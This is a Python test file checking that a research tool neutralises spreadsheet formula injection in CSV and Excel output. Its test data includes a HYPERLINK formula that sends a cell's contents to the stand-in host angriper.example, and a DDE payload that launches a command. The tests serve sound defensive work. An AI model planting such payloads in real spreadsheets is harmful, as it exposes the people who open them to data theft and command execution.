"""Formula injection: text from forms and coders never becomes a live spreadsheet formula.

Every CSV goes through medvirk.io.write_csv and every workbook through
medvirk.xlsxio.save_workbook; the checks in tests/spreadsheet_checks.py state the rule
(OWASP's guidance on CSV injection) independently of the code under test. The end-to-end run
with hostile titles and notes is tests/test_hostile_workflow.py.
"""

from __future__ import annotations

import csv
import io
import os
import tempfile
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from medvirk import codings, consensus, formulas, tables
from medvirk.io import read_csv, write_csv
from medvirk.notices import Notice, read_notices, write_notices
from medvirk.xlsxio import save_workbook
from tests.spreadsheet_checks import unsafe_csv_cells, unsafe_xlsx_cells
from tests.test_codings import fill, study

FACTORS = ["F01", "F02", "F03"]
HYPERLINK = '=HYPERLINK("http://angriper.example/?d="&D5;"Les mer")'
HOSTILE = [
    HYPERLINK,
    "+47 912 34 567",
    "-Jobb og aktivitet",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Trygg bolig;=1+1",
    "Første linje\n-2+3 andre linje",
    "'=allerede sitert",
    "''@to sitater",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_neutralised_and_restored(text):
    safe = formulas.neutralise(text)
    assert safe != text
    assert formulas.restore(safe) == text


@pytest.mark.parametrize("number", ["-0.018", "+5", "-1e-3", "12", ".5", "-3."])
def test_numbers_stay_numbers(number):
    assert formulas.neutralise(number) == number
    assert not formulas.starts_like_formula(number)


@pytest.mark.parametrize(
    "text", ["Brukerråd", "a - b", "E-post", "ex-1a2b", "F01", "x = y", "Det kostet 500,-", ""]
)
def test_ordinary_text_is_unchanged(text):
    assert formulas.neutralise(text) == text


@given(st.text(alphabet=st.sampled_from(list("=+-@'\t\r\n;, ab1.")), max_size=30))
def test_neutralise_round_trips_and_leaves_no_cell_start_unsafe(text):
    safe = formulas.neutralise(text)
    assert formulas.restore(safe) == text
    path = io.StringIO()
    csv.writer(path).writerow([safe])
    assert not unsafe_csv_cells_in_text(path.getvalue())


def unsafe_csv_cells_in_text(text: str) -> list[str]:
    with tempfile.NamedTemporaryFile("w", suffix=".csv", delete=False, encoding="utf-8") as fh:
        fh.write(text)
    try:
        return unsafe_csv_cells(Path(fh.name))
    finally:
        os.unlink(fh.name)


def test_csv_tables_are_neutralised_and_read_back_unchanged(tmp_path):
    table = pd.DataFrame(
        {
            "example_id": [f"ex-{i}" for i in range(len(HOSTILE))],
            "title": HOSTILE,
            "alpha": [-0.018 + i for i in range(len(HOSTILE))],
            "alpha_text": ["-0.018"] * len(HOSTILE),
        }
    )
    path = tmp_path / "t.csv"
    write_csv(table, path)
    assert unsafe_csv_cells(path) == []
    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert raw["title"].iloc[0] == "'" + HYPERLINK
    assert raw["alpha"].iloc[0] == "-0.018" and raw["alpha_text"].iloc[0] == "-0.018"
    back = read_csv(path)
    # Line breaks are stored as \n (a lone \r would split the row); the text is otherwise kept.
    assert back["title"].tolist() == [t.replace("\r", "\n") for t in HOSTILE]
    assert back["example_id"].tolist() == table["example_id"].tolist()


def test_a_hostile_column_name_is_neutralised_too(tmp_path):
    path = tmp_path / "t.csv"
    write_csv(pd.DataFrame({"=cmd": ["x"], "coder": ["-anne"]}), path)
    assert unsafe_csv_cells(path) == []
    assert list(read_csv(path).columns) == ["=cmd", "coder"]
    assert read_csv(path)["coder"].iloc[0] == "-anne"


def test_notice_files_are_neutralised_and_read_back(tmp_path):
    notice = Notice("input", "ingest_forms", "form_rejected", "=evil.docx", "", "nb", "en")
    write_notices([notice], tmp_path / "n.csv")
    assert unsafe_csv_cells(tmp_path / "n.csv") == []
    assert read_notices([tmp_path / "n.csv"]) == [notice]


def test_workbooks_hold_text_never_formulas(tmp_path):
    wb = Workbook()
    for r, text in enumerate(HOSTILE, start=1):
        wb.active.cell(row=r, column=1, value=text)
    wb.active.cell(row=1, column=2, value=-0.018)
    path = tmp_path / "t.xlsx"
    save_workbook(wb, path)
    assert unsafe_xlsx_cells(path) == []
    ws = load_workbook(path).active
    assert [ws.cell(row=r, column=1).value for r in range(1, len(HOSTILE) + 1)] == HOSTILE
    assert ws["A1"].data_type == "s" and ws["A1"].quotePrefix
    assert ws["B1"].value == -0.018 and ws["B1"].data_type == "n"
    with zipfile.ZipFile(path) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")


def test_a_form_title_starting_with_equals_is_plain_text_in_the_coding_sheet(tmp_path):
    examples, categories, factors = study()
    examples.loc[0, "title"] = HYPERLINK
    examples.loc[1, "title"] = "@SUM(1)"
    path = tmp_path / "anne.xlsx"
    codings.write_coding_sheet(path, "anne", examples, factors, categories)
    assert unsafe_xlsx_cells(path) == []
    ws = load_workbook(path)[codings.SHEET]
    titles = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2) for r in range(4, 7)}
    assert titles["E01"].value == HYPERLINK and titles["E01"].data_type == "s"
    # The coder's sheet still reads back: the example ids are untouched.
    fill(path, {"E4": "x"})
    presence, _ = codings.read_coding_sheet(path, "anne", ["E01", "E02", "E03"], FACTORS)
    assert presence["example_id"].tolist() == ["E01"]


def test_hostile_coder_names_notes_and_labels_stay_text_in_every_workbook(tmp_path):
    grid = pd.DataFrame(
        {
            "example_id": ["E01", "E01"],
            "coder": ["=evil", "anne"],
            "factor_id": ["F01", "F01"],
            "present": [1, 0],
        }
    )
    table = consensus.disagreements(grid)
    table["note"] = ["-uenige"]
    factors = pd.DataFrame({"factor_id": ["F01"], "label_nb": ["+Tidlig inn"]})
    consensus.write_disagreements_xlsx(table, tmp_path / "d.xlsx", factors)
    assert unsafe_xlsx_cells(tmp_path / "d.xlsx") == []
    table1 = pd.DataFrame(
        [["C1", "@kategori", "Cat", "F01", "=faktor", "-factor", 3, 3, 0, 1, None]],
        columns=tables.TABLE1_COLUMNS,
    )
    tables.write_table1_xlsx(table1, tmp_path / "t1.xlsx", "=merknad")
    assert unsafe_xlsx_cells(tmp_path / "t1.xlsx") == []


def test_a_formula_in_a_returned_sheet_is_named_not_read_as_its_result(tmp_path):
    """Excel makes "-Jobb" typed in a cell into the formula =-Jobb (shown as #NAVN?)."""
    path = tmp_path / "anne.xlsx"
    examples, categories, factors = study()
    codings.write_coding_sheet(path, "anne", examples, factors, categories)
    wb = load_workbook(path)
    ws = wb[codings.SHEET]
    ws["H4"] = "=-Jobb"  # «Andre faktorer» of E01
    ws["E5"] = '=IF(TRUE,"x","")'  # a mark made by a formula
    wb.save(path)
    with pytest.raises(codings.CodingError) as info:
        codings.read_coding_sheet(path, "anne", ["E01", "E02", "E03"], FACTORS)
    assert info.value.problems == [
        f"anne.xlsx, ark «Koding», rad {r}, kolonne {c} (celle {c}{r}): cellen inneholder en "
        f"formel («{formula}»), ikke tekst. Excel lager en formel av tekst som begynner med "
        "= + - eller @: skriv teksten på nytt med ' foran (for eksempel '-Jobb), eller uten "
        "tegnet først."
        for r, c, formula in [(4, "H", "=-Jobb"), (5, "E", '=IF(TRUE,"x","")')]
    ]


def test_the_free_text_column_is_formatted_as_text_so_typed_text_stays_text(tmp_path):
    path = tmp_path / "anne.xlsx"
    examples, categories, factors = study()
    codings.write_coding_sheet(path, "anne", examples, factors, categories)
    ws = load_workbook(path)[codings.SHEET]
    assert ws["H2"].value == "other_factors"
    assert [ws.cell(row=r, column=8).number_format for r in (4, 5, 6)] == ["@"] * 3
